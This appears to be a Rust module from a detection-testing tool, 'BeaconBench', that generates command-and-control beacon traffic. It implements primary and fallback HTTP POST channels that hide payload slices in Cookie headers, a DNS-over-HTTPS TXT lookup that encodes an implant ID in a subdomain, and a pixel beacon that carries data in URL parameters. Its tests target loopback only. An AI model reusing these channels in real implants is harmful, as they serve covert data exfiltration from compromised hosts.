// BeaconBench - C2 Beacon Telemetry Generator
// Outbound delivery channels. Real implants layer a fallback endpoint and
// redundant low-bandwidth channels over the primary; each adapter here is
// independently swappable so detection rules can be validated in isolation.

use crate::config::{BeaconConfig, ConfigError};
use async_trait::async_trait;
use log::{debug, info, warn};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;
use std::time::Duration;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ChannelKind {
    Primary,
    Fallback,
    /// DNS-over-HTTPS style lookup carrying a name derived from the implant ID
    DnsLookup,
    /// Pixel/image beacon carrying a truncated payload slice in the URL
    PixelBeacon,
}

impl fmt::Display for ChannelKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ChannelKind::Primary => write!(f, "primary"),
            ChannelKind::Fallback => write!(f, "fallback"),
            ChannelKind::DnsLookup => write!(f, "dns_lookup"),
            ChannelKind::PixelBeacon => write!(f, "pixel_beacon"),
        }
    }
}

/// Outcome of one delivery attempt. Ephemeral: produced and consumed within
/// a single cycle.
#[derive(Debug, Clone)]
pub struct ChannelReport {
    pub channel: ChannelKind,
    pub success: bool,
    pub reason: Option<String>,
    pub payload_len: usize,
}

impl ChannelReport {
    pub fn ok(channel: ChannelKind, payload_len: usize) -> Self {
        ChannelReport {
            channel,
            success: true,
            reason: None,
            payload_len,
        }
    }

    pub fn failed(channel: ChannelKind, payload_len: usize, reason: String) -> Self {
        ChannelReport {
            channel,
            success: false,
            reason: Some(reason),
            payload_len,
        }
    }
}

/// Session identity needed to decorate outbound requests.
#[derive(Debug, Clone)]
pub struct SendContext {
    pub implant_id: String,
    pub seq: u64,
}

/// One outbound delivery mechanism. Transport errors never cross this
/// boundary: they are caught and folded into the report.
#[async_trait]
pub trait BeaconChannel: Send + Sync {
    fn kind(&self) -> ChannelKind;

    async fn send(&self, blob: &str, ctx: &SendContext) -> ChannelReport;
}

const COOKIE_SLICE_LEN: usize = 32;
const PIXEL_SLICE_LEN: usize = 100;

fn head(s: &str, n: usize) -> &str {
    &s[..s.len().min(n)]
}

/// Request-style delivery (primary and fallback) carrying the full encoded
/// blob and session headers. T1071.001.
pub struct HttpPostChannel {
    kind: ChannelKind,
    url: String,
    timeout: Duration,
    client: reqwest::Client,
}

#[async_trait]
impl BeaconChannel for HttpPostChannel {
    fn kind(&self) -> ChannelKind {
        self.kind
    }

    async fn send(&self, blob: &str, ctx: &SendContext) -> ChannelReport {
        debug!(
            "Sending beacon #{} via {} to {} ({} bytes encoded)",
            ctx.seq,
            self.kind,
            self.url,
            blob.len()
        );

        let result = self
            .client
            .post(&self.url)
            .header("Content-Type", "application/octet-stream")
            .header("X-Request-ID", &ctx.implant_id)
            .header("Cookie", format!("session={}", head(blob, COOKIE_SLICE_LEN)))
            .timeout(self.timeout)
            .body(blob.to_string())
            .send()
            .await;

        match result {
            Ok(response) if response.status().is_success() => {
                info!(
                    "Beacon #{} delivered via {} (unlikely on loopback)",
                    ctx.seq, self.kind
                );
                ChannelReport::ok(self.kind, blob.len())
            }
            Ok(response) => ChannelReport::failed(
                self.kind,
                blob.len(),
                format!("HTTP status {}", response.status()),
            ),
            Err(e) => {
                let reason = if e.is_timeout() {
                    format!("timeout after {}ms", self.timeout.as_millis())
                } else {
                    e.to_string()
                };
                ChannelReport::failed(self.kind, blob.len(), reason)
            }
        }
    }
}

/// Lookup-style channel mimicking DNS-over-HTTPS: a TXT query for a name
/// derived from the implant ID. Failure is logged, never escalated.
pub struct DohChannel {
    url: String,
    zone: String,
    timeout: Duration,
    client: reqwest::Client,
}

#[async_trait]
impl BeaconChannel for DohChannel {
    fn kind(&self) -> ChannelKind {
        ChannelKind::DnsLookup
    }

    async fn send(&self, blob: &str, ctx: &SendContext) -> ChannelReport {
        let name = format!("{}.{}", ctx.implant_id.to_lowercase(), self.zone);
        debug!("DoH TXT lookup for {name} via {}", self.url);

        let result = self
            .client
            .get(&self.url)
            .query(&[("name", name.as_str()), ("type", "TXT")])
            .header("Accept", "application/dns-json")
            .timeout(self.timeout)
            .send()
            .await;

        match result {
            Ok(response) if response.status().is_success() => {
                ChannelReport::ok(self.kind(), blob.len())
            }
            Ok(response) => ChannelReport::failed(
                self.kind(),
                blob.len(),
                format!("HTTP status {}", response.status()),
            ),
            Err(e) => {
                warn!("DoH channel failed (expected on loopback): {e}");
                ChannelReport::failed(self.kind(), blob.len(), e.to_string())
            }
        }
    }
}

/// Fire-and-forget image beacon embedding a truncated payload slice in the
/// request URL. Best effort: there is no success signal to report, so the
/// attempt itself counts as delivered.
pub struct PixelChannel {
    url: String,
    timeout: Duration,
    client: reqwest::Client,
}

#[async_trait]
impl BeaconChannel for PixelChannel {
    fn kind(&self) -> ChannelKind {
        ChannelKind::PixelBeacon
    }

    async fn send(&self, blob: &str, ctx: &SendContext) -> ChannelReport {
        let slice = head(blob, PIXEL_SLICE_LEN);
        debug!(
            "Pixel beacon #{} carrying {} byte payload slice",
            ctx.seq,
            slice.len()
        );

        let result = self
            .client
            .get(&self.url)
            .query(&[("d", slice)])
            .timeout(self.timeout)
            .send()
            .await;

        if let Err(e) = result {
            debug!("Pixel beacon transport error (best effort, ignored): {e}");
        }

        ChannelReport::ok(self.kind(), slice.len())
    }
}

/// Dry-run stand-in: logs what would be sent, touches nothing.
pub struct DryRunChannel {
    kind: ChannelKind,
    url: String,
}

impl DryRunChannel {
    pub fn new(kind: ChannelKind, url: String) -> Self {
        DryRunChannel { kind, url }
    }
}

#[async_trait]
impl BeaconChannel for DryRunChannel {
    fn kind(&self) -> ChannelKind {
        self.kind
    }

    async fn send(&self, blob: &str, ctx: &SendContext) -> ChannelReport {
        info!(
            "[DRY RUN] Would send beacon #{} via {} to {} ({} bytes encoded)",
            ctx.seq,
            self.kind,
            self.url,
            blob.len()
        );
        ChannelReport::ok(self.kind, blob.len())
    }
}

/// The full channel complement for one session.
pub struct ChannelSet {
    pub primary: Box<dyn BeaconChannel>,
    pub fallback: Box<dyn BeaconChannel>,
    pub aux: HashMap<ChannelKind, Box<dyn BeaconChannel>>,
}

impl ChannelSet {
    /// Live channels sharing one HTTP client. Client construction is the
    /// only fallible step and fails before any cycle runs.
    pub fn build(config: &BeaconConfig) -> Result<Self, ConfigError> {
        let client = reqwest::Client::builder()
            .user_agent(config.user_agent.clone())
            .build()
            .map_err(|e| ConfigError::Transport(e.to_string()))?;

        let timeout = Duration::from_millis(config.send_timeout_ms);

        let mut aux: HashMap<ChannelKind, Box<dyn BeaconChannel>> = HashMap::new();
        aux.insert(
            ChannelKind::DnsLookup,
            Box::new(DohChannel {
                url: config.doh_url.clone(),
                zone: config.doh_zone.clone(),
                timeout,
                client: client.clone(),
            }),
        );
        aux.insert(
            ChannelKind::PixelBeacon,
            Box::new(PixelChannel {
                url: config.pixel_url.clone(),
                timeout,
                client: client.clone(),
            }),
        );

        Ok(ChannelSet {
            primary: Box::new(HttpPostChannel {
                kind: ChannelKind::Primary,
                url: config.primary_url.clone(),
                timeout,
                client: client.clone(),
            }),
            fallback: Box::new(HttpPostChannel {
                kind: ChannelKind::Fallback,
                url: config.fallback_url.clone(),
                timeout,
                client,
            }),
            aux,
        })
    }

    /// Logging-only channels for --dry-run.
    pub fn dry_run(config: &BeaconConfig) -> Self {
        let mut aux: HashMap<ChannelKind, Box<dyn BeaconChannel>> = HashMap::new();
        aux.insert(
            ChannelKind::DnsLookup,
            Box::new(DryRunChannel::new(
                ChannelKind::DnsLookup,
                config.doh_url.clone(),
            )),
        );
        aux.insert(
            ChannelKind::PixelBeacon,
            Box::new(DryRunChannel::new(
                ChannelKind::PixelBeacon,
                config.pixel_url.clone(),
            )),
        );

        ChannelSet {
            primary: Box::new(DryRunChannel::new(
                ChannelKind::Primary,
                config.primary_url.clone(),
            )),
            fallback: Box::new(DryRunChannel::new(
                ChannelKind::Fallback,
                config.fallback_url.clone(),
            )),
            aux,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn test_post_channel_converts_refused_connection_to_report() {
        // Port 65535 on loopback has nothing listening in the test env;
        // the adapter must fold the transport error into the report.
        let channel = HttpPostChannel {
            kind: ChannelKind::Primary,
            url: "http://127.0.0.1:65535/api/v1/tasks".to_string(),
            timeout: Duration::from_millis(500),
            client: reqwest::Client::new(),
        };
        let ctx = SendContext {
            implant_id: "PT-TEST00000000".to_string(),
            seq: 1,
        };

        let report = channel.send("AAAA", &ctx).await;
        assert_eq!(report.channel, ChannelKind::Primary);
        assert!(!report.success);
        assert!(report.reason.is_some());
        assert_eq!(report.payload_len, 4);
    }

    #[tokio::test]
    async fn test_pixel_channel_is_best_effort() {
        let channel = PixelChannel {
            url: "http://127.0.0.1:65535/pixel.gif".to_string(),
            timeout: Duration::from_millis(500),
            client: reqwest::Client::new(),
        };
        let ctx = SendContext {
            implant_id: "PT-TEST00000000".to_string(),
            seq: 3,
        };

        let blob = "A".repeat(400);
        let report = channel.send(&blob, &ctx).await;
        assert!(report.success);
        assert_eq!(report.payload_len, 100);
    }

    #[tokio::test]
    async fn test_dry_run_channel_always_succeeds() {
        let channel = DryRunChannel::new(ChannelKind::Fallback, "http://127.0.0.1/x".to_string());
        let ctx = SendContext {
            implant_id: "PT-TEST00000000".to_string(),
            seq: 2,
        };
        let report = channel.send("AAAA", &ctx).await;
        assert!(report.success);
        assert_eq!(report.channel, ChannelKind::Fallback);
    }

    #[test]
    fn test_channel_kind_serde_names() {
        assert_eq!(
            serde_json::to_string(&ChannelKind::DnsLookup).unwrap(),
            "\"dns_lookup\""
        );
        assert_eq!(
            serde_json::to_string(&ChannelKind::PixelBeacon).unwrap(),
            "\"pixel_beacon\""
        );
    }

    #[test]
    fn test_head_respects_short_input() {
        assert_eq!(head("abc", 32), "abc");
        assert_eq!(head(&"x".repeat(50), 32).len(), 32);
    }
}
